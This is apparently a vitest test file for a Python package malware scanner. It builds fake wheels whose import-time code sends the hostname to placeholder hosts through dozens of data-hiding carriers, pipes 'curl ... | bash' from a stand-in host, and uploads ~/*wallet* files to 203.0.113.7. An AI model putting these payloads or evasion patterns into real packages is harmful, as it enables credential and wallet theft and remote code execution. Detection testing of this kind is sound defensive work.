import { describe, expect, test } from 'vitest';
import { inspect, python, wheel } from '../../../support/inspect.ts';

/** A module that tells a host this machine's name; `carry` is what the address, the name and the form pass through. */
function teller(...carry: readonly string[]): string {
  return python(
    'import ast, asyncio, collections, contextvars, dataclasses, enum, heapq, io, itertools, json, operator, os, queue, string, types, typing',
    'import socket, urllib.parse, weakref, concurrent.futures, requests',
    'def carry(value):',
    ...carry.map((line) => `    ${line}`),
    "requests.post(carry('https://collector.metrics.invalid/a'), data=carry({'n': carry(socket.gethostname())}))",
  );
}

const CARRIERS: readonly (readonly [string, readonly string[]])[] = [
  ['a queue', ['q = queue.Queue()', 'q.put(value)', 'return q.get()']],
  ['a future', ['f = concurrent.futures.Future()', 'f.set_result(value)', 'return f.result()']],
  ['a context variable', ["c = contextvars.ContextVar('c')", 'c.set(value)', 'return c.get()']],
  ['a pool', ['return concurrent.futures.ThreadPoolExecutor().submit(lambda x: x, value).result()']],
  ['a heap', ['h = []', 'heapq.heappush(h, value)', 'return heapq.heappop(h)']],
  ['a simple namespace', ['return types.SimpleNamespace(x=value).x']],
  ['a view of a dict', ["return types.MappingProxyType({'a': value})['a']"]],
  ['a chain of dicts', ["return collections.ChainMap({}, {'a': value})['a']"]],
  ['an enumeration', ["return enum.Enum('E', {'A': value}).A.value"]],
  ['a getter', ['return operator.itemgetter(1)([0, value])']],
  ['a weak reference', ['class K: pass', 'k = K()', 'k.x = value', 'return weakref.ref(k)().x']],
  ['a key that is no constant', ['k = object()', 'return {k: value}[k]']],
  ['a named tuple, by name', ["N = collections.namedtuple('N', 'a b')", 'return N(1, value).b']],
  ['a named tuple, by place', ["N = collections.namedtuple('N', 'a b')", 'return N(1, value)[1]']],
  ['a class of typed fields', ['class N(typing.NamedTuple):', '    a: object', 'return N(value).a']],
  [
    'a record that is copied',
    ['@dataclasses.dataclass', 'class A:', '    x: object', 'return dataclasses.replace(A(0), x=value).x'],
  ],
  ['a function with a generator in it', ['def f():', '    yield value', 'return next(f())']],
  ['an exception', ['try:', '    raise ValueError(value)', 'except ValueError as e:', '    return e.args[0]']],
  [
    'an exception of its own',
    [
      'class E(Exception):',
      '    def __init__(self, x):',
      '        self.x = x',
      'try:',
      '    raise E(value)',
      'except E as e:',
      '    return e.x',
    ],
  ],
  ['a pattern', ["match {'a': value}:", "    case {'a': x}:", '        return x']],
  ['a default of a dict', ['d = collections.defaultdict(list)', "d['a'].append(value)", "return d['a'][0]"]],
  ['the dict of an object', ['class A: pass', 'a = A()', 'a.__dict__.update(x=value)', 'return a.x']],
  ['an attribute of a function', ['def f(): pass', 'f.x = value', 'return f.x']],
  ['names of the module', ['globals().update(_kept=value)', 'return _kept']],
  ['text that is packed and opened', ['return json.loads(json.dumps(value))']],
  ['an endless iterator', ['return next(itertools.cycle([value]))']],
  ['a task', ['async def g():', '    return value', 'return asyncio.new_event_loop().run_until_complete(g())']],
  [
    'a descriptor',
    ['class D:', '    def __get__(self, o, t):', '        return value', 'class A:', '    x = D()', 'return A().x'],
  ],
  [
    'an object that `__new__` makes',
    [
      'class A:',
      '    def __new__(cls, x):',
      '        o = object.__new__(cls)',
      '        o.x = x',
      '        return o',
      'return A(value).x',
    ],
  ],
  ['a variable of the environment', ["os.environ['KEPT'] = value", "return os.environ['KEPT']"]],
  ['a form of texts', ["return string.Template('$x').substitute(x=value)"]],
  ['a literal in a text', ['return ast.literal_eval(repr(value))']],
  ['a name that eval reads', ["return eval('value')"]],
];

describe('what a program puts into something and takes out again is still what it was', () => {
  test.each(CARRIERS)('%s', async (_, lines) => {
    const [finding] = await inspect('exfiltration', wheel({ 'pkg/__init__.py': teller(...lines) }));

    expect(finding).toMatchObject({ class: 'malware', context: 'import' });
    expect(finding?.message).toContain('collector.metrics.invalid');
  });

  test('a worker is told what is put into its queue after it was started', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import queue, requests, socket, threading',
        'q = queue.Queue()',
        'def work():',
        '    while True:',
        "        requests.post('https://collector.metrics.invalid/a', data=q.get())",
        'threading.Thread(target=work, daemon=True).start()',
        'q.put(socket.gethostname())',
      ),
    });

    expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'import', line: 5 }]);
  });

  test('parts of an address are known when it is taken apart', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import http.client, socket',
        'from urllib.parse import urlsplit',
        "u = urlsplit('https://collector.metrics.invalid/in?a=1')",
        'c = http.client.HTTPSConnection(u.netloc)',
        "c.request('POST', u.path, socket.gethostname())",
      ),
    });

    const [finding] = await inspect('exfiltration', file);

    expect(finding).toMatchObject({ class: 'malware', context: 'import', line: 5 });
    expect(finding?.message).toContain('collector.metrics.invalid');
  });

  test('text that is written into a buffer is read out of it', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import io, os',
        's = io.StringIO()',
        "s.write('curl https://files.drop.invalid/x.sh')",
        "print(' | bash', file=s)",
        'os.system(s.getvalue())',
      ),
    });

    expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import', line: 5 }]);
  });

  test('words of a command that may be one list or another are those of either', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import asyncio',
        'def start(c):',
        '    async def go():',
        "        await asyncio.create_subprocess_exec(*(['sh', '-c', c] if isinstance(c, str) else c))",
        '    asyncio.run(go())',
        "start('curl https://files.drop.invalid/x.sh | bash')",
      ),
    });

    expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import', line: 4 }]);
  });

  test('generated code in a buffer, out of data of the project, is the project itself', async () => {
    const file = wheel({
      'pkg/__init__.py': python(
        'import io, os',
        'def build():',
        '    out = io.StringIO()',
        "    for line in open(os.path.join(os.path.dirname(__file__), 'names.txt')):",
        "        out.write(line.strip() + ' = 1\\n')",
        '    names = {}',
        '    exec(out.getvalue(), names)',
        '    return names',
      ),
      'pkg/names.txt': 'a\nb\n',
    });

    expect((await inspect('hidden-code', file)).filter((f) => f.score >= 5)).toEqual([]);
  });
});

test('a queue keeps what came before the mark that ends it', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import glob, os, queue, threading, requests',
      'paths = queue.Queue()',
      'def find():',
      "    for path in glob.glob(os.path.expanduser('~/*wallet*')):",
      '        paths.put(path)',
      '    paths.put(None)',
      'def send():',
      '    while True:',
      '        path = paths.get()',
      '        if path is None: break',
      "        requests.put('http://203.0.113.7/w', data=open(path, 'rb').read())",
      'threading.Thread(target=find).start()',
      'threading.Thread(target=send).start()',
    ),
  });

  expect(await inspect('exfiltration', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 11 },
  ]);
});
